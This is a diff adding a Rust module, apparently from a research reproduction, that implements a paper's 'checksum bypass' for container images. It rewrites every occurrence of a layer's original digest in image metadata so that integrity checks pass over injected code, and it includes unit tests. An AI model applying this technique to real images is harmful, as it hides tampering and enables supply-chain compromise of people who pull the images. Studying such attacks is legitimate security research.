@@ -1,0 +1,90 @@
+//! Checksum bypass (paper §III.B): "update both the key and the lock".
+//!
+//! After injecting code into a layer, its `layer.tar` no longer hashes to
+//! the checksum recorded in the layer json and the image config. The
+//! bypass does exactly what the paper describes: compute the new
+//! checksum, then **search for every occurrence of the original checksum
+//! in the image metadata and replace it** — so the integrity test (put in
+//! place to detect corruption) passes over the injected content.
+
+use crate::hash::Digest;
+use crate::oci::Image;
+
+/// Replace every occurrence of `old` with `new` in a serialized metadata
+/// document; returns the rewritten text and the occurrence count. This is
+/// the literal string-level operation the paper performs on
+/// `config.json`; the explicit injection path uses it on bundle members.
+pub fn rewrite_occurrences(text: &str, old: &Digest, new: &Digest) -> (String, usize) {
+    let old_hex = old.to_hex();
+    let count = text.matches(&old_hex).count();
+    (text.replace(&old_hex, &new.to_hex()), count)
+}
+
+/// Structured version of the same operation for an in-memory [`Image`]:
+/// swap `old → new` in `diff_ids`, and the matching chunk root. Returns
+/// how many digest slots changed.
+pub fn rewrite_image_digests(
+    image: &mut Image,
+    old: &Digest,
+    new: &Digest,
+    new_chunk_root: &Digest,
+) -> usize {
+    let mut n = 0;
+    for (i, d) in image.diff_ids.iter_mut().enumerate() {
+        if d == old {
+            *d = *new;
+            image.chunk_roots[i] = *new_chunk_root;
+            n += 1;
+        }
+    }
+    n
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::oci::{HistoryEntry, ImageConfig, LayerId};
+
+    #[test]
+    fn rewrite_occurrences_in_text() {
+        let old = Digest::of(b"old");
+        let new = Digest::of(b"new");
+        let text = format!(
+            r#"{{"diff_ids": ["sha256:{old}", "sha256:other"], "trace": "{old}"}}"#
+        );
+        let (out, n) = rewrite_occurrences(&text, &old, &new);
+        assert_eq!(n, 2);
+        assert!(!out.contains(&old.to_hex()));
+        assert_eq!(out.matches(&new.to_hex()).count(), 2);
+        // No-op when absent.
+        let (same, zero) = rewrite_occurrences("nothing here", &old, &new);
+        assert_eq!((same.as_str(), zero), ("nothing here", 0));
+    }
+
+    #[test]
+    fn rewrite_image_digests_swaps_slot() {
+        let l0 = LayerId::derive("test", None, "FROM a");
+        let l1 = LayerId::derive("test", Some(&l0), "COPY . .");
+        let old = Digest::of(b"copy-old");
+        let mut image = Image {
+            architecture: "amd64".into(),
+            os: "linux".into(),
+            config: ImageConfig::default(),
+            layer_ids: vec![l0, l1],
+            diff_ids: vec![Digest::of(b"base"), old],
+            chunk_roots: vec![Digest::of(b"r0"), Digest::of(b"r1")],
+            history: vec![
+                HistoryEntry { created_by: "FROM a".into(), empty_layer: false },
+                HistoryEntry { created_by: "COPY . .".into(), empty_layer: false },
+            ],
+        };
+        let before = image.id();
+        let new = Digest::of(b"copy-new");
+        let root = Digest::of(b"root-new");
+        let n = rewrite_image_digests(&mut image, &old, &new, &root);
+        assert_eq!(n, 1);
+        assert_eq!(image.diff_ids[1], new);
+        assert_eq!(image.chunk_roots[1], root);
+        assert_ne!(image.id(), before, "image id must track the rewrite");
+    }
+}
